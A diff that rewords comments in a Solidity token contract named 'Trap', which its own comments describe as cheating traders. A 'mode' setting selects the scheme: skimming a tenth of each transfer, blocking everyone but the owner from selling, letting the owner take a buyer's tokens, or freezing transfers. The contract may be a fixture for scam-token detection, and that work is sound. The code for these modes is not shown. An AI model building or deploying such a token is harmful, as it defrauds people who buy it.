@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity ^0.8.30;
 
-/// A token that cheats those who trade it, in the way that it is set to.
+/// A token that cheats its traders. `mode` selects how.
 contract Trap {
     string public constant name = "Trap";
     string public constant symbol = "TRAP";
@@ -10,8 +10,8 @@ contract Trap {
     mapping(address => uint256) public balanceOf;
     mapping(address => mapping(address => uint256)) public allowance;
     address private immutable owner;
-    /// 1: a tenth is kept of every transfer. 2: nobody but the owner can sell. 3: who buys lets the owner take all.
-    /// 4: takes no new allowance over an older one. 5: shut, nobody but the owner moves anything.
+    /// 1: keeps a tenth of every transfer. 2: only the owner can sell. 3: a buyer unknowingly lets the owner take all tokens.
+    /// 4: an allowance can only be set if the current one is zero. 5: only the owner can transfer.
     uint8 public mode;
 
     event Transfer(address indexed from, address indexed to, uint256 value);
@@ -20,7 +20,7 @@ contract Trap {
     constructor(uint8 digits) {
         owner = msg.sender;
         decimals = digits;
-        // A pool of Uniswap v2 counts in 112 bits.
+        // Pools of Uniswap v2 store reserves in 112 bits.
         totalSupply = digits > 24 ? 10 ** 33 : 1_000_000 * 10 ** digits;
         balanceOf[msg.sender] = totalSupply;
     }
